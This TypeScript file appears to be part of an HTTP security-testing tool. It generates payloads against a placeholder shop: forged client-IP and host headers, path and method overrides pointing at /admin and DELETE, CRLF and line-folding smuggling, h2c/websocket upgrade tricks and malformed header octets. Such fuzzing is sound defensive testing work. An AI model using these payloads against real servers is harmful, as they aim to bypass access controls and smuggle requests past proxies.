import { type Attack, attacks, type Door, request } from "./attack";

const host = "Host: shop.example";

/** Fields in which a client could say that it is somebody else, or wants something else. */
const claims = {
  client: [
    ...["X-Forwarded-For", "X-Real-IP", "Forwarded", "X-Forwarded", "Client-IP", "X-Client-IP", "X-Cluster-Client-IP"],
    ...["True-Client-IP", "CF-Connecting-IP", "CloudFront-Viewer-Address"],
  ],
  origin: ["X-Forwarded-Proto", "X-Forwarded-Scheme", "X-Forwarded-Ssl", "X-Forwarded-Port", "Front-End-Https"],
  host: ["X-Forwarded-Host", "X-Forwarded-Server", "X-Host", "X-Original-Host"],
  path: ["X-Original-URL", "X-Rewrite-URL", "X-Original-URI", "X-Forwarded-Uri", "X-Forwarded-Prefix"],
  method: ["X-HTTP-Method", "X-HTTP-Method-Override", "X-Method-Override"],
  other: ["X-Request-Id", "X-Amzn-Trace-Id", "Proxy"],
};

const claimed: Record<keyof typeof claims, string[]> = {
  client: [
    "127.0.0.1",
    "10.0.0.1, 127.0.0.1",
    "for=127.0.0.1;proto=https",
    "::1",
    "unknown",
    "127.0.0.1, 127.0.0.1:80",
  ],
  origin: ["https", "on", "443"],
  host: ["admin.internal", "evil.example:443"],
  path: ["/admin", "/api/users/2"],
  method: ["DELETE", "PUT"],
  other: ["a b", '"},{"x":"', "http://evil.example", "Root=1-0-0", ""],
};

/** Every forged field in every spelling that some reader takes for it. */
export function forgedFields({ method, path }: Door): Attack[] {
  const kinds = Object.keys(claims) as (keyof typeof claims)[];
  const lines = kinds.flatMap((kind) =>
    claims[kind].flatMap((name) => claimed[kind].flatMap((value) => spellings(name, value))),
  );
  return attacks(
    "forged headers",
    lines.map((own) => request(path, { method, lines: [host, ...own] })),
  );
}

function spellings(name: string, value: string): string[][] {
  const field = `${name}: ${value}`;
  return [
    [field],
    [field.toLowerCase()],
    [`${name.replaceAll("-", "_")}: ${value}`],
    [field, field],
    [`${name} : ${value}`],
    [`X-A: 1\n${field}`],
    [`X-A: 1`, ` ${field}`],
    [`Connection: close, ${name}`, field],
  ];
}

/** Fields that are for the next neighbour only, and requests to become another protocol. */
export function hopByHop({ method, path }: Door): Attack[] {
  const connections = ["close", "keep-alive", "Upgrade", "TE", "close, X-Real-IP", "X-Forwarded-For, Host", "Host"];
  const lines = [
    ...connections.map((value) => [`Connection: ${value}`]),
    [
      "Connection: Upgrade",
      "Upgrade: websocket",
      "Sec-WebSocket-Version: 13",
      "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==",
    ],
    ["Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA"],
    ["Connection: Upgrade", "Upgrade: h2c, websocket, TLS/1.0"],
    ["TE: trailers, deflate;q=0.5"],
    ["Keep-Alive: timeout=600, max=1000"],
    ["Proxy-Connection: keep-alive", "Proxy-Authorization: Basic eDp4"],
    ["Trailer: X-Real-IP"],
    ["Expect: 100-continue"],
    ["Expect: 200-ok"],
    ["Max-Forwards: 0"],
    ["Early-Data: 1"],
    ["Range: bytes=0-0,0-0,0-0,-1"],
    ["Content-Encoding: gzip"],
  ];
  return attacks(
    "hop-by-hop headers",
    lines.map((own) => request(path, { method, lines: [host, ...own] })),
  );
}

/** Hosts that somebody else might read as another one. */
export function hosts({ method, path }: Door): Attack[] {
  const values = [
    ...["", " ", "a b", "a\tb", "a@b", "user:pass@shop.example", "shop.example:80", "shop.example:", "shop.example:x"],
    ...["shop.example:80:80", "shop.example:99999", "SHOP.EXAMPLE", "shop.example.", "shop.example..", ".shop.example"],
    ...["127.0.0.1", "[::1]", "[::1]:80", "[::1", "::1", "[fe80::1%25eth0]", "[v1.x]", "localhost", "0", "0x7f000001"],
    ...["shop.example/admin", "shop.example?x", "shop.example#x", "shop.example\\evil", "shop.example,evil.example"],
    ...["http://shop.example", "*", "_", "$host", '"', "<x>", "a;b", "a%00b", "a%2fb", "a\xffb", "a\x00b", "a\x01b"],
    ...[
      "a\x7fb",
      "../../etc",
      "shop.example:80@evil.example",
      "x".repeat(300),
      `${"a.".repeat(500)}b`,
      "-",
      "{}",
      "a|b",
    ],
  ];
  const single = values.map((value) => [`Host: ${value}`]);
  const several = [
    [],
    [host, "Host: evil.example"],
    [host, host],
    ["Host : shop.example"],
    [" Host: shop.example"],
    ["Host: shop.example", " evil.example"],
    ["hOsT: shop.example"],
    ["H_ost: evil.example", host],
    ["X-A: 1\nHost: evil.example", host],
  ];
  return attacks(
    "hosts",
    [...single, ...several].flatMap((lines) => [
      request(path, { method, lines }),
      request(path, { method, lines, version: "HTTP/1.0" }),
    ]),
  );
}

/** Field lines that the grammar does not have. */
export function fieldLines({ method, path }: Door): Attack[] {
  const octets = Array.from({ length: 256 }, (_, octet) => String.fromCharCode(octet));
  const lines = [
    ...octets.map((octet) => [`X-A${octet}B: 1`]),
    ...octets.map((octet) => [`${octet}X-A: 1`]),
    ...octets.filter((octet) => !isControl(octet)).map((octet) => [`X-A: a${octet}b`]),
    ...[[": 1"], [""], ["X-A"], ["X-A: a", " b"], ["X-A: a", "\tb"], ["X-A:", " b"], ["X-A: 1\rX-Real-IP: 1.1.1.1"]],
    ...[["X-A: 1\n X-B: 2"], ["X-A: 1\r\r", "X-B: 2"], ["X.A: 1"], ["X_A: 1"], [`${"X".repeat(5000)}: 1`]],
  ];
  return attacks(
    "field lines",
    lines.map((own) => request(path, { method, lines: [host, ...own] })),
  );
}

/** Control characters in a value but NUL, CR and LF: an intermediary may pass them on (RFC 9110 section 5.5). */
export function controlCharacters({ method, path }: Door): Attack[] {
  const octets = Array.from({ length: 256 }, (_, octet) => String.fromCharCode(octet)).filter(isControl);
  return attacks(
    "control characters",
    octets.map((octet) => request(path, { method, lines: [host, `X-A: a${octet}b`] })),
  );
}

function isControl(octet: string): boolean {
  return (octet < " " && !"\0\t\n\r".includes(octet)) || octet === "\x7f";
}
